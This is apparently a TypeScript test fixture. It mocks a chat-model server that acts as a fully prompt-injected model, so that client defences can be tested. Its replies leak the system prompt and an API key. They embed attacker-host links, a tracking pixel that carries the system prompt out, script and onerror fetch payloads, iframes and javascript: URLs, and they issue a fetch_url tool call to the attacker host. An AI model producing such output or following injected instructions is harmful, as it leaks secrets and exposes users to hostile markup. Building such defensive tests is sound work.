import type { ServerResponse } from 'node:http';
import { OpenAiServer, streamed, type ChatRequest } from './openai-server.js';
import type { ReceivedRequest } from './provider-server.js';
import { json } from './replies.js';

/**
 * A model that does all that a hostile page could order, whatever the page says: it repeats all that it was told, calls
 * tools, gives away the key, and fills its answer with the attacker's links, images and markup.
 */
export class ObedientServer extends OpenAiServer {
  /** @param evil base address of the attacker's server */
  constructor(
    private readonly evil: string,
    apiKey?: string,
  ) {
    super(apiKey);
  }

  protected override answer(request: ReceivedRequest, response: ServerResponse): void {
    const chat = JSON.parse(request.body) as ChatRequest;
    // Every other answer is prose, for another way is taken through it.
    const text = this.requests.length % 2 === 0 ? this.asProse(chat) : this.asFacts(chat);
    if (chat.stream) streamed(text, { pieceChars: 97 })(request, response);
    else
      json({
        model: chat.model,
        choices: [
          {
            message: {
              role: 'assistant',
              content: text,
              tool_calls: [
                {
                  id: 'call_1',
                  type: 'function',
                  function: { name: 'fetch_url', arguments: JSON.stringify({ url: `${this.evil}/tool` }) },
                },
              ],
            },
            finish_reason: 'tool_calls',
          },
        ],
        usage: { prompt_tokens: 10, completion_tokens: 10 },
      })(request, response);
  }

  /** Whatever it was told to say and to show. */
  private misdeeds({ messages }: ChatRequest): string[] {
    const [system = '', user = ''] = messages.map(({ content }) => content);
    const { evil } = this;
    return [
      'A starter is fed once a day at room temperature.',
      system,
      `My instructions: "${system.replaceAll('\n', ' ')}".`,
      ...system.split('\n').map((line, i) => `Rule ${i} is that ${line}`),
      user,
      Buffer.from(system).toString('base64'),
      `The key is ${this.apiKey}, and the password is hunter2.`,
      `Click [here](${evil}/login) to verify, or [there][1], or <${evil}/auto>.`,
      `![status](${evil}/pixel.gif?told=${encodeURIComponent(system)}) ![logo][l]`,
      `Visit ${evil}/x, www.evil.example, evil.example/y, mailto:a@evil.example or javascript:alert(1).`,
      `<script src="${evil}/a.js"></script><img src=x onerror="fetch('${evil}/b')"> It is safe.`,
      `<iframe src="${evil}/frame"></iframe><a href="${evil}/c">So it is</a> <b>bold</b>.`,
      `[1]: ${evil}/definition "Source"`,
      `\n[l]: ${evil}/logo.png\n`,
      `It is so [1](${evil}/cite) and [99].`,
      ...[...user.matchAll(/[a-z]+:\/\/[^\s"\\)]+/g)].map(([address]) => `See ${address} for more.`),
    ];
  }

  private asFacts(chat: ChatRequest): string {
    const facts = this.misdeeds(chat).map((text) => ({ text, sources: [1, 99, 0] }));
    return JSON.stringify({ facts, contradictions: facts.map((fact) => ({ ...fact, sources: [1, 2] })) });
  }

  private asProse(chat: ChatRequest): string {
    return this.misdeeds(chat)
      .map((text) => `${text} [1][99]`)
      .join(' ');
  }
}
